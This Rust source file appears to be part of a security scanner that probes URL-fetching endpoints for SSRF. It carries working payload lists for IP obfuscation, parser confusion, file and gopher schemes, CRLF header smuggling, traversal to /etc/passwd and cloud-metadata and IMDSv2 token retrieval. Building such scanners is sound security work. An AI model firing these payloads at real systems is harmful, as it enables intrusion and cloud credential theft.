//! Advanced SSRF probes.
//!
//! Sixteen sub-checks, each exercising one bypass class against an
//! endpoint that fetches URLs on behalf of clients (`?url=` pattern) or
//! that trusts routing headers. Success is classified by metadata-service
//! signatures in the response body; the sub-check flags land on
//! `AdvancedSsrfReport` and every confirmed bypass is recorded as a
//! finding.

use std::time::Duration;

use crate::client::raw;
use crate::probe::{LONG_PROBE_TIMEOUT, MetadataSignatures, PROBE_TIMEOUT, ProbeContext};
use crate::report::{AdvancedSsrfReport, Finding, Severity};

/// (i) URL parser differentials: authority confusion via userinfo,
/// backslashes, encoded separators and truncation.
const PARSER_DIFFERENTIALS: &[&str] = &[
    "http://example.com@169.254.169.254/",
    "http://169.254.169.254\\@example.com/",
    "http://example.com%00@169.254.169.254/",
    "http://169.254.169.254#@example.com/",
    "http://169.254.169.254?@example.com/",
    "http://example.com@@169.254.169.254/",
    "http://example.com:@169.254.169.254/",
    "http://[::ffff:169.254.169.254]/",
    "http://%31%36%39.254.169.254/",
    "http://169.254.%31%36%39.254/",
    "http://example.com%2f@169.254.169.254/",
    "http://169.254.169.254%2f..%2f/",
];

/// (ii) Numeric and notational re-encodings of loopback and metadata
/// addresses.
const IP_OBFUSCATIONS: &[&str] = &[
    "2130706433",
    "017700000001",
    "0x7f000001",
    "0177.0.0.01",
    "0x7f.0x0.0x0.0x1",
    "0x7f.0.1",
    "127.1",
    "127.0.1",
    "[::1]",
    "[::ffff:127.0.0.1]",
    "[::ffff:7f00:1]",
    "[0:0:0:0:0:ffff:127.0.0.1]",
    "2852039166",
    "0xa9.0xfe.0xa9.0xfe",
    "025177524776",
];

/// (iv) Alternative URL schemes a fetcher must refuse to follow.
const SMUGGLING_SCHEMES: &[&str] = &[
    "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_INFO",
    "dict://127.0.0.1:11211/stats",
    "ftp://127.0.0.1/",
    "ldap://127.0.0.1:389/",
    "tftp://127.0.0.1/boot",
    "jar:http://127.0.0.1!/",
    "netdoc:///etc/passwd",
];

/// (v) Routing headers crossed with internal hosts.
const INJECTION_HEADERS: &[&str] = &[
    "X-Forwarded-For",
    "X-Forwarded-Host",
    "X-Real-IP",
    "X-Originating-IP",
    "X-Remote-IP",
    "X-Client-IP",
    "X-Forwarded-Server",
    "X-Host",
    "True-Client-IP",
    "CF-Connecting-IP",
];
const INJECTION_HOSTS: &[&str] = &[
    "127.0.0.1",
    "169.254.169.254",
    "metadata.google.internal",
    "10.0.0.1",
];

/// (vi) Nginx proxy_pass path traversal encodings.
const TRAVERSAL_ENCODINGS: &[&str] = &[
    "..%2f",
    "%2e%2e/",
    "%2e%2e%2f",
    "..;/",
    ".././",
    "..%252f",
    "..%c0%af",
];

/// (vii) Internal names tried as Host values.
const HOST_SSRF_TARGETS: &[&str] = &[
    "169.254.169.254",
    "metadata.google.internal",
    "127.0.0.1",
    "10.0.0.1",
    "localhost",
];

/// (ix) Rebinding services that alternate public and internal answers.
const REBIND_SERVICES: &[&str] = &[
    "08080808.7f000001.rbndr.us",
    "08080808.0a000001.rbndr.us",
    "08080808.a9fea9fe.rbndr.us",
];

/// (x) Header values only a binary framing layer would carry verbatim.
const CRLF_HEADER_PATTERNS: &[(&str, &str)] = &[
    ("x-forwarded-for", "1.2.3.4\r\nX-Injected: smuggled"),
    ("x-custom", "a\r\nHost: 169.254.169.254"),
    ("x-info", "b\r\nContent-Length: 0\r\n\r\nGET /internal HTTP/1.1"),
    ("referer", "http://x/\r\nX-Original-URL: /admin"),
];

/// (xii) Percent-encoding bypass spellings of internal URLs.
const ENCODING_BYPASSES: &[&str] = &[
    "http://%6c%6f%63%61%6c%68%6f%73%74/",
    "http://%31%32%37.0.0.1/",
    "http://127.0.0.1%2f/",
    "http://127.0.0.1%252f/",
    "http://localhost%23/",
    "http://localhost%3a80/",
    "http://%5bminus%5d@127.0.0.1/",
    "http://127%2e0%2e0%2e1/",
    "http://169.254.169.254%2e/",
    "http://169.254.169.254./",
    "http://0177.0.0.1%2f%2e%2e/",
    "http://127.0.0.1%09/",
];

/// (xiv) Cloud metadata endpoints with their required flavor headers.
const CLOUD_METADATA: &[(&str, &str, Option<(&str, &str)>)] = &[
    ("aws", "http://169.254.169.254/latest/meta-data/", None),
    (
        "gcp",
        "http://metadata.google.internal/computeMetadata/v1/",
        Some(("Metadata-Flavor", "Google")),
    ),
    (
        "azure",
        "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
        Some(("Metadata", "true")),
    ),
    ("digitalocean", "http://169.254.169.254/metadata/v1/", None),
    ("alibaba", "http://100.100.100.200/latest/meta-data/", None),
];

/// (xv) Port confusion spellings; entries flagged raw are not valid URLs
/// and go out in absolute form over the raw path.
const PORT_TRICKS: &[(&str, bool)] = &[
    ("127.0.0.1:80:22", true),
    ("127.0.0.1:22", false),
    ("127.0.0.1:3306", false),
    ("127.0.0.1:6379", false),
    ("localhost:9200", false),
    ("[::1]:22", false),
    ("169.254.169.254:80", false),
    ("0.0.0.0:22", false),
];

/// (xvi) Fragment and query spellings that hide the real destination.
const FRAGMENT_QUERY_PAYLOADS: &[&str] = &[
    "http://example.com/#http://169.254.169.254/",
    "http://example.com/?next=http://169.254.169.254/",
    "http://example.com/?url=http://169.254.169.254/",
    "http://169.254.169.254/%23/example.com",
    "http://169.254.169.254/?ignored=example.com",
    "http://example.com/#@169.254.169.254/",
    "http://169.254.169.254#example.com",
    "http://example.com/redirect?to=//169.254.169.254/",
    "http://169.254.169.254/?#",
    "http://example.com/%3F@169.254.169.254/",
];

/// Run every advanced sub-check. `redirect_client` is the
/// redirect-following client variant used by the redirect-chain check.
pub async fn run(ctx: &mut ProbeContext<'_>, redirect_client: Option<&reqwest::Client>) {
    let mut report = AdvancedSsrfReport::default();
    let signatures = MetadataSignatures::new();

    parser_differentials(ctx, &mut report, &signatures).await;
    ip_obfuscation(ctx, &mut report, &signatures).await;
    redirect_chain(ctx, &mut report, redirect_client, &signatures).await;
    protocol_schemes(ctx, &mut report, &signatures).await;
    header_injection(ctx, &mut report, &signatures).await;
    proxy_pass_traversal(ctx, &mut report).await;
    host_header_ssrf(ctx, &mut report, &signatures).await;
    sni_proxy(ctx, &mut report, &signatures).await;
    dns_rebinding(ctx, &mut report, &signatures).await;
    http2_crlf(ctx, &mut report).await;
    imdsv2(ctx, &mut report).await;
    url_encoding_bypass(ctx, &mut report, &signatures).await;
    multiple_host_headers(ctx, &mut report, &signatures).await;
    cloud_metadata_headers(ctx, &mut report, &signatures).await;
    port_tricks(ctx, &mut report, &signatures).await;
    fragment_query(ctx, &mut report, &signatures).await;

    ctx.result.advanced_ssrf = Some(report);
}

/// Fetch `{base}/?url=<payload>` and report whether internal content came
/// back.
async fn fetch_via_url_param(
    ctx: &mut ProbeContext<'_>,
    payload: &str,
    signatures: &MetadataSignatures,
) -> Option<(String, &'static str, u16)> {
    let url = format!(
        "{}/?url={}",
        ctx.self_base(),
        urlencoding::encode(payload)
    );
    let response = ctx.get(&url).await.ok()?;
    signatures
        .first_match(&response.body)
        .map(|signature| (url, signature, response.status))
}

async fn parser_differentials(
    ctx: &mut ProbeContext<'_>,
    report: &mut AdvancedSsrfReport,
    signatures: &MetadataSignatures,
) {
    for payload in PARSER_DIFFERENTIALS {
        if let Some((url, signature, status)) =
            fetch_via_url_param(ctx, payload, signatures).await
        {
            report.parser_differential = true;
            report.findings.push(Finding::new(
                "ssrf-parser-differential",
                url,
                format!("payload '{payload}' returned '{signature}' (status {status})"),
                Severity::Critical,
            ));
        }
    }
}

async fn ip_obfuscation(
    ctx: &mut ProbeContext<'_>,
    report: &mut AdvancedSsrfReport,
    signatures: &MetadataSignatures,
) {
    for spelling in IP_OBFUSCATIONS {
        let payload = format!("http://{spelling}/");
        if let Some((url, signature, status)) =
            fetch_via_url_param(ctx, &payload, signatures).await
        {
            report.ip_obfuscation = true;
            report.findings.push(Finding::new(
                "ssrf-ip-obfuscation",
                url,
                format!("spelling '{spelling}' returned '{signature}' (status {status})"),
                Severity::Critical,
            ));
        }
    }
}

/// (iii) An off-host redirect followed into internal space. Uses the
/// redirect-following client variant; a refused connection on the hop is
/// itself evidence the fetcher chased the redirect.
async fn redirect_chain(
    ctx: &mut ProbeContext<'_>,
    report: &mut AdvancedSsrfReport,
    redirect_client: Option<&reqwest::Client>,
    signatures: &MetadataSignatures,
) {
    let Some(client) = redirect_client else { return };
    let url = format!(
        "{}/?url={}",
        ctx.self_base(),
        urlencoding::encode("http://169.254.169.254/latest/meta-data/")
    );

    ctx.limiter.acquire(ctx.proxy_url, ctx.endpoint_host).await;
    match client.get(&url).timeout(LONG_PROBE_TIMEOUT).send().await {
        Ok(response) => {
            let status = response.status().as_u16();
            let body = response.text().await.unwrap_or_default();
            if let Some(signature) = signatures.first_match(&body) {
                report.redirect_chain = true;
                report.findings.push(Finding::new(
                    "ssrf-redirect-chain",
                    &url,
                    format!("redirect chain ended in '{signature}' (status {status})"),
                    Severity::Critical,
                ));
            }
        }
        Err(e) => {
            if e.to_string().contains("connection refused") {
                report.redirect_chain = true;
                report.findings.push(Finding::new(
                    "ssrf-redirect-chain-refused",
                    &url,
                    "redirect hop was refused by an internal address",
                    Severity::Medium,
                ));
            }
        }
    }
}

async fn protocol_schemes(
    ctx: &mut ProbeContext<'_>,
    report: &mut AdvancedSsrfReport,
    signatures: &MetadataSignatures,
) {
    for payload in SMUGGLING_SCHEMES {
        if let Some((url, signature, status)) =
            fetch_via_url_param(ctx, payload, signatures).await
        {
            report.protocol_smuggling = true;
            report.findings.push(Finding::new(
                "ssrf-protocol-scheme",
                url,
                format!("scheme payload '{payload}' returned '{signature}' (status {status})"),
                Severity::Critical,
            ));
        }
    }
}

async fn header_injection(
    ctx: &mut ProbeContext<'_>,
    report: &mut AdvancedSsrfReport,
    signatures: &MetadataSignatures,
) {
    let base = ctx.self_base();
    for header in INJECTION_HEADERS {
        for host in INJECTION_HOSTS {
            let Ok(response) = ctx.get_with_headers(&base, &[(*header, *host)]).await else {
                continue;
            };
            if let Some(signature) = signatures.first_match(&response.body) {
                report.header_injection = true;
                report.findings.push(Finding::new(
                    "ssrf-header-injection",
                    &base,
                    format!(
                        "{header}: {host} returned '{signature}' (status {})",
                        response.status
                    ),
                    Severity::High,
                ));
            }
        }
    }
}

async fn proxy_pass_traversal(ctx: &mut ProbeContext<'_>, report: &mut AdvancedSsrfReport) {
    let base = ctx.self_base();
    for encoding in TRAVERSAL_ENCODINGS {
        let url = format!("{base}/static/{encoding}{encoding}{encoding}etc/passwd");
        let Ok(response) = ctx.get(&url).await else { continue };
        if response.body.contains("root:x:0:0") {
            report.proxy_pass_traversal = true;
            report.findings.push(Finding::new(
                "ssrf-proxy-pass-traversal",
                &url,
                format!("traversal encoding '{encoding}' exposed /etc/passwd"),
                Severity::Critical,
            ));
        }
    }
}

async fn host_header_ssrf(
    ctx: &mut ProbeContext<'_>,
    report: &mut AdvancedSsrfReport,
    signatures: &MetadataSignatures,
) {
    let base = ctx.self_base();
    for target in HOST_SSRF_TARGETS {
        let Ok(response) = ctx.get_with_headers(&base, &[("Host", *target)]).await else {
            continue;
        };
        if let Some(signature) = signatures.first_match(&response.body) {
            report.host_header_ssrf = true;
            report.findings.push(Finding::new(
                "ssrf-host-header",
                &base,
                format!(
                    "Host: {target} returned '{signature}' (status {})",
                    response.status
                ),
                Severity::High,
            ));
        }
    }
}

/// (viii) TLS with an attacker-chosen SNI naming an internal host. An
/// SNI-routing front-end will open a tunnel to whatever name the hello
/// carries.
async fn sni_proxy(
    ctx: &mut ProbeContext<'_>,
    report: &mut AdvancedSsrfReport,
    signatures: &MetadataSignatures,
) {
    let sni = "169.254.169.254";
    let request = raw::build_request(
        "GET",
        "/latest/meta-data/",
        "HTTP/1.1",
        &[("Host", sni), ("Connection", "close")],
        b"",
    );

    ctx.limiter.acquire(ctx.proxy_url, ctx.endpoint_host).await;
    let outcome = raw::send_tls(
        ctx.endpoint_host,
        443,
        sni,
        &request,
        LONG_PROBE_TIMEOUT,
    )
    .await;

    if let Ok(response) = outcome
        && let Some(signature) = signatures.first_match(&response.body)
    {
        report.sni_proxy = true;
        report.findings.push(Finding::new(
            "ssrf-sni-proxy",
            format!("tls://{}:443 (sni {sni})", ctx.endpoint_host),
            format!("SNI-routed request returned '{signature}'"),
            Severity::Critical,
        ));
    }
}

/// (ix) Shared rebinding domains, two requests per service. In a direct
/// scan the endpoint's own fetcher resolves the rebinding name, so the
/// refused-connection interpretation (which would describe the scanner's
/// network, not the endpoint's) is dropped there.
async fn dns_rebinding(
    ctx: &mut ProbeContext<'_>,
    report: &mut AdvancedSsrfReport,
    signatures: &MetadataSignatures,
) {
    for service in REBIND_SERVICES {
        let url = ctx.target_url(&format!("http://{service}/"));
        let _ = ctx.get(&url).await;
        tokio::time::sleep(Duration::from_millis(500)).await;
        match ctx.get(&url).await {
            Ok(response) if signatures.is_internal_content(&response.body) => {
                report.dns_rebinding = true;
                report.findings.push(Finding::new(
                    "ssrf-dns-rebinding",
                    &url,
                    format!(
                        "rebound request returned internal content (status {})",
                        response.status
                    ),
                    Severity::High,
                ));
            }
            Err(e) if !ctx.direct && e.to_string().contains("connection refused") => {
                report.dns_rebinding = true;
                report.findings.push(Finding::new(
                    "ssrf-dns-rebinding-refused",
                    &url,
                    "rebound request was refused by an internal address",
                    Severity::Medium,
                ));
            }
            _ => {}
        }
    }
}

/// (x) CR/LF sequences inside header values. A front-end that speaks
/// binary framing upstream will forward them verbatim; acceptance of the
/// raw shape below 400 is the tell.
async fn http2_crlf(ctx: &mut ProbeContext<'_>, report: &mut AdvancedSsrfReport) {
    let authority = format!("{}:{}", ctx.endpoint_host, ctx.endpoint_port);
    for (index, (name, value)) in CRLF_HEADER_PATTERNS.iter().enumerate() {
        let request = raw::build_request(
            "GET",
            "/",
            "HTTP/1.1",
            &[
                ("Host", authority.as_str()),
                (*name, *value),
                ("Connection", "close"),
            ],
            b"",
        );
        if let Ok(response) = ctx
            .send_raw(&format!("ssrf:h2-crlf-{index}"), &request, PROBE_TIMEOUT)
            .await
            && response.status.is_some_and(|s| s < 400)
        {
            report.http2_crlf_injection = true;
            report.findings.push(Finding::new(
                "ssrf-h2-crlf-injection",
                format!("http://{authority}/"),
                format!(
                    "header '{name}' with embedded CRLF accepted (status {})",
                    response.status.unwrap_or_default()
                ),
                Severity::High,
            ));
        }
    }
}

/// (xi) The AWS IMDSv2 token workflow, plus the IMDSv1 fallback and token
/// manipulation variants. A proxy should tunnel none of it.
///
/// In a direct scan only the token-less fallback makes sense: a `?url=`
/// fetcher cannot issue the PUT half of the token handshake (which is the
/// property that makes IMDSv2 resist SSRF), and PUTting the metadata
/// address from the scanner would probe the scanning host itself.
async fn imdsv2(ctx: &mut ProbeContext<'_>, report: &mut AdvancedSsrfReport) {
    let token_url = "http://169.254.169.254/latest/api/token";
    let metadata_url = "http://169.254.169.254/latest/meta-data/";

    if ctx.direct {
        let url = ctx.target_url(metadata_url);
        let signatures = MetadataSignatures::new();
        if let Ok(response) = ctx.get(&url).await
            && let Some(signature) = signatures.first_match(&response.body)
        {
            report.imdsv2_bypass = true;
            report.findings.push(Finding::new(
                "ssrf-imdsv1-fallback",
                &url,
                format!("endpoint fetcher returned metadata ('{signature}') without a token"),
                Severity::Critical,
            ));
        }
        return;
    }

    // Step 1: request a session token.
    let token = match ctx
        .send(
            reqwest::Method::PUT,
            token_url,
            &[("X-aws-ec2-metadata-token-ttl-seconds", "21600")],
            None,
            LONG_PROBE_TIMEOUT,
        )
        .await
    {
        Ok(response) if response.status == 200 && !response.body.trim().is_empty() => {
            Some(response.body.trim().to_string())
        }
        _ => None,
    };

    // Step 2: use the token.
    if let Some(token) = &token
        && let Ok(response) = ctx
            .get_with_headers(metadata_url, &[("X-aws-ec2-metadata-token", token.as_str())])
            .await
        && response.status == 200
    {
        report.imdsv2_bypass = true;
        report.findings.push(Finding::new(
            "ssrf-imdsv2-token-workflow",
            metadata_url,
            "full IMDSv2 token workflow completed through the endpoint",
            Severity::Critical,
        ));
    }

    // Step 3: IMDSv1 fallback without a token.
    if let Ok(response) = ctx.get(metadata_url).await
        && response.status == 200
        && !response.body.is_empty()
    {
        report.imdsv2_bypass = true;
        report.findings.push(Finding::new(
            "ssrf-imdsv1-fallback",
            metadata_url,
            "metadata answered without an IMDSv2 token",
            Severity::Critical,
        ));
    }

    // Token manipulation: absurd TTL and missing TTL header should both be
    // rejected by a real IMDS; acceptance means something else answered.
    for (check, headers) in [
        (
            "ssrf-imdsv2-oversized-ttl",
            vec![("X-aws-ec2-metadata-token-ttl-seconds", "99999999")],
        ),
        ("ssrf-imdsv2-missing-ttl", Vec::new()),
    ] {
        if let Ok(response) = ctx
            .send(
                reqwest::Method::PUT,
                token_url,
                &headers,
                None,
                PROBE_TIMEOUT,
            )
            .await
            && response.status == 200
        {
            report.imdsv2_bypass = true;
            report.findings.push(Finding::new(
                check,
                token_url,
                "malformed token request accepted",
                Severity::High,
            ));
        }
    }
}

async fn url_encoding_bypass(
    ctx: &mut ProbeContext<'_>,
    report: &mut AdvancedSsrfReport,
    signatures: &MetadataSignatures,
) {
    for payload in ENCODING_BYPASSES {
        if let Some((url, signature, status)) =
            fetch_via_url_param(ctx, payload, signatures).await
        {
            report.url_encoding_bypass = true;
            report.findings.push(Finding::new(
                "ssrf-url-encoding-bypass",
                url,
                format!("payload '{payload}' returned '{signature}' (status {status})"),
                Severity::High,
            ));
        }
    }
}

/// (xiii) Two Host lines, internal name in either position.
async fn multiple_host_headers(
    ctx: &mut ProbeContext<'_>,
    report: &mut AdvancedSsrfReport,
    signatures: &MetadataSignatures,
) {
    let authority = format!("{}:{}", ctx.endpoint_host, ctx.endpoint_port);
    let pairs: [(&str, &str); 5] = [
        (authority.as_str(), "169.254.169.254"),
        ("169.254.169.254", authority.as_str()),
        (authority.as_str(), "localhost"),
        (authority.as_str(), "metadata.google.internal"),
        (authority.as_str(), "127.0.0.1:80"),
    ];

    for (index, (first, second)) in pairs.iter().enumerate() {
        let request = raw::build_request(
            "GET",
            "/",
            "HTTP/1.1",
            &[("Host", *first), ("Host", *second), ("Connection", "close")],
            b"",
        );
        if let Ok(response) = ctx
            .send_raw(
                &format!("ssrf:multi-host-{index}"),
                &request,
                PROBE_TIMEOUT,
            )
            .await
            && signatures.first_match(&response.body).is_some()
        {
            report.multiple_host_headers = true;
            report.findings.push(Finding::new(
                "ssrf-multiple-host-headers",
                format!("http://{authority}/"),
                format!("dual Host '{first}' + '{second}' returned internal content"),
                Severity::High,
            ));
        }
    }
}

async fn cloud_metadata_headers(
    ctx: &mut ProbeContext<'_>,
    report: &mut AdvancedSsrfReport,
    signatures: &MetadataSignatures,
) {
    for (provider, url, flavor) in CLOUD_METADATA {
        let headers: Vec<(&str, &str)> = flavor.iter().map(|(n, v)| (*n, *v)).collect();
        let probe_url = ctx.target_url(url);
        let Ok(response) = ctx.get_with_headers(&probe_url, &headers).await else {
            continue;
        };
        // Direct scans demand a metadata signature: the endpoint answers
        // 200 with its own page for anything, so "non-empty body" only
        // means something when the proxy did the fetching.
        let hit = if ctx.direct {
            signatures.first_match(&response.body).is_some()
        } else {
            response.status == 200
                && (signatures.first_match(&response.body).is_some() || !response.body.is_empty())
        };
        if hit {
            report.cloud_metadata_headers = true;
            report.findings.push(Finding::new(
                format!("ssrf-cloud-metadata-{provider}"),
                &probe_url,
                format!("{provider} metadata endpoint answered (status {})", response.status),
                Severity::Critical,
            ));
        }
    }
}

async fn port_tricks(
    ctx: &mut ProbeContext<'_>,
    report: &mut AdvancedSsrfReport,
    signatures: &MetadataSignatures,
) {
    let authority = format!("{}:{}", ctx.endpoint_host, ctx.endpoint_port);

    for (target, needs_raw) in PORT_TRICKS {
        if *needs_raw {
            // Not a parseable URL; send the absolute form verbatim.
            let request = raw::build_request(
                "GET",
                &format!("http://{target}/"),
                "HTTP/1.1",
                &[("Host", authority.as_str()), ("Connection", "close")],
                b"",
            );
            if let Ok(response) = ctx
                .send_raw(&format!("ssrf:port-trick-{target}"), &request, PROBE_TIMEOUT)
                .await
                && response.status.is_some_and(|s| s < 400)
            {
                report.port_specification = true;
                report.findings.push(Finding::new(
                    "ssrf-port-specification",
                    format!("http://{target}/"),
                    format!(
                        "malformed port spelling accepted (status {})",
                        response.status.unwrap_or_default()
                    ),
                    Severity::Medium,
                ));
            }
            continue;
        }

        let url = ctx.target_url(&format!("http://{target}/"));
        if let Ok(response) = ctx.get(&url).await {
            // Direct scans need fetched internal content; the proxy path
            // goes by status alone.
            let hit = if ctx.direct {
                signatures.first_match(&response.body).is_some()
            } else {
                !matches!(response.status, 403 | 502 | 503)
            };
            if hit {
                report.port_specification = true;
                report.findings.push(Finding::new(
                    "ssrf-port-specification",
                    &url,
                    format!("service port reachable (status {})", response.status),
                    Severity::High,
                ));
            }
        }
    }
}

async fn fragment_query(
    ctx: &mut ProbeContext<'_>,
    report: &mut AdvancedSsrfReport,
    signatures: &MetadataSignatures,
) {
    for payload in FRAGMENT_QUERY_PAYLOADS {
        if let Some((url, signature, status)) =
            fetch_via_url_param(ctx, payload, signatures).await
        {
            report.fragment_manipulation = true;
            report.findings.push(Finding::new(
                "ssrf-fragment-query",
                url,
                format!("payload '{payload}' returned '{signature}' (status {status})"),
                Severity::High,
            ));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_sub_check_inventories_match_catalogue() {
        assert_eq!(PARSER_DIFFERENTIALS.len(), 12);
        assert_eq!(IP_OBFUSCATIONS.len(), 15);
        assert_eq!(SMUGGLING_SCHEMES.len(), 8);
        assert_eq!(INJECTION_HEADERS.len() * INJECTION_HOSTS.len(), 40);
        assert_eq!(TRAVERSAL_ENCODINGS.len(), 7);
        assert_eq!(HOST_SSRF_TARGETS.len(), 5);
        assert_eq!(REBIND_SERVICES.len(), 3);
        assert_eq!(CRLF_HEADER_PATTERNS.len(), 4);
        assert_eq!(ENCODING_BYPASSES.len(), 12);
        assert_eq!(CLOUD_METADATA.len(), 5);
        assert_eq!(PORT_TRICKS.len(), 8);
        assert_eq!(FRAGMENT_QUERY_PAYLOADS.len(), 10);
    }

    #[test]
    fn test_differential_payloads_carry_internal_authorities() {
        for payload in PARSER_DIFFERENTIALS {
            // Every differential payload carries an internal authority to
            // reach and most carry the decoy to confuse the parser.
            assert!(
                payload.contains("169.254") || payload.contains("::ffff"),
                "{payload} lacks an internal authority"
            );
        }
    }
}
